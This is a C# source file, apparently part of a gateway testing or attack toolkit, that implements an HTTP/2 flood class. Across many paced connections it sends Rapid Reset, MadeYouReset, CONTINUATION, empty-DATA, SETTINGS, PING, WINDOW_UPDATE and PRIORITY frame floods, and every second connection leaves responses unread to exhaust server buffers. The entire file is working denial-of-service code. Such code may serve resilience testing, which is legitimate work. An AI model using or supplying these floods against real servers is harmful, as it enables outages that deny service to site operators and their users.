using System.Buffers;
using TagGateway.Attacks.Connecting;
using TagGateway.Attacks.Http2;

namespace TagGateway.Attacks.Crowds;

/// <summary>Sends HTTP/2 frames that cost the server more than the client, at a steady rate. Every second connection reads nothing of what comes back.</summary>
/// <param name="target">The server.</param>
/// <param name="kind">Of frames.</param>
/// <param name="path">Of the requests among them; <c>{n}</c> is their number.</param>
/// <param name="framesPerSecond">Of each connection.</param>
internal sealed class Http2Flood(Target target, FloodKind kind, string path, int framesPerSecond)
{
    private const int TicksPerSecond = 50;
    private const int UnreadBufferBytes = 4096;
    private const uint Cancel = 8;
    private long _frames;

    /// <summary>Sent so far.</summary>
    public long Frames => Interlocked.Read(ref _frames);

    public Crowd Start(int connections) => Crowd.Start(connections, returns: true, SendAsync);

    private async Task SendAsync(CrowdSeat seat, CancellationToken stop)
    {
        var reads = seat.Number % 2 == 0;
        await using var connection = await Http2Connection.OpenAsync(target, seat.Number, windowBytes: 65_535, reads ? null : UnreadBufferBytes, stop);
        seat.Open();
        using var ended = CancellationTokenSource.CreateLinkedTokenSource(stop);
        var reading = reads ? ReadAsync(connection, ended) : Task.CompletedTask;
        try
        {
            await PaceAsync(connection, seat.Number, ended.Token);
        }
        catch (OperationCanceledException) when (!stop.IsCancellationRequested)
        {
            // The server has ended the connection.
        }
        finally
        {
            await ended.CancelAsync();
            await reading;
        }
    }

    private async Task PaceAsync(Http2Connection connection, int number, CancellationToken ended)
    {
        using var timer = new PeriodicTimer(TimeSpan.FromSeconds(1) / TicksPerSecond);
        var frames = new ArrayBufferWriter<byte>();
        var streamId = 0;
        while (await timer.WaitForNextTickAsync(ended))
        {
            frames.ResetWrittenCount();
            for (var count = 0; count < Math.Max(1, framesPerSecond / TicksPerSecond); count++)
            {
                streamId = Write(frames, connection, number, streamId);
                Interlocked.Increment(ref _frames);
            }

            await connection.WriteAsync(frames.WrittenMemory, ended);
        }
    }

    /// <summary>Writes one unit of the flood; the id of the stream that it was about, which the next continues where the kind has one without end.</summary>
    private int Write(ArrayBufferWriter<byte> frames, Http2Connection connection, int number, int streamId)
    {
        switch (kind)
        {
            case FloodKind.RapidReset:
                streamId = WriteRequest(frames, connection, "GET", FrameFlags.EndHeaders | FrameFlags.EndStream);
                frames.WriteNumber(FrameType.ResetStream, streamId, Cancel);
                break;
            case FloodKind.MadeYouReset:
                streamId = WriteRequest(frames, connection, "GET", FrameFlags.EndHeaders | FrameFlags.EndStream);
                frames.WriteNumber(FrameType.WindowUpdate, streamId, int.MaxValue);
                break;
            case FloodKind.Continuation when streamId == 0:
                return WriteRequest(frames, connection, "GET", FrameFlags.EndStream);
            case FloodKind.Continuation:
                frames.WriteFrame(FrameType.Continuation, FrameFlags.None, streamId, number / 2 % 2 == 0 ? HeaderBlock.Encode(("x-a", "b")) : []);
                break;
            case FloodKind.EmptyData when streamId == 0:
                return WriteRequest(frames, connection, "POST", FrameFlags.EndHeaders);
            case FloodKind.EmptyData:
                frames.WriteFrame(FrameType.Data, FrameFlags.None, streamId, []);
                break;
            case FloodKind.Settings:
                frames.WriteSetting(SettingId.InitialWindowSize, 65_535);
                break;
            case FloodKind.Ping:
                frames.WriteFrame(FrameType.Ping, FrameFlags.None, 0, "attacker"u8);
                break;
            case FloodKind.WindowUpdate:
                frames.WriteNumber(FrameType.WindowUpdate, 0, 1);
                break;
            case FloodKind.Priority:
                frames.WriteFrame(FrameType.Priority, FrameFlags.None, connection.NextStreamId(), [0, 0, 0, 0, 16]);
                break;
            default:
                return WriteRequest(frames, connection, "TRACE", FrameFlags.EndHeaders | FrameFlags.EndStream);
        }

        return streamId;
    }

    private int WriteRequest(ArrayBufferWriter<byte> frames, Http2Connection connection, string method, FrameFlags flags)
    {
        var streamId = connection.NextStreamId();
        frames.WriteFrame(FrameType.Headers, flags, streamId, HeaderBlock.Request(method, target, RequestTemplate.Fill(path, streamId)));
        return streamId;
    }

    private static async Task ReadAsync(Http2Connection connection, CancellationTokenSource ended)
    {
        try
        {
            while (await connection.ReadAsync(ended.Token) is not null)
            {
            }

            await ended.CancelAsync();
        }
        catch (OperationCanceledException)
        {
            // The end of the attack.
        }
    }
}
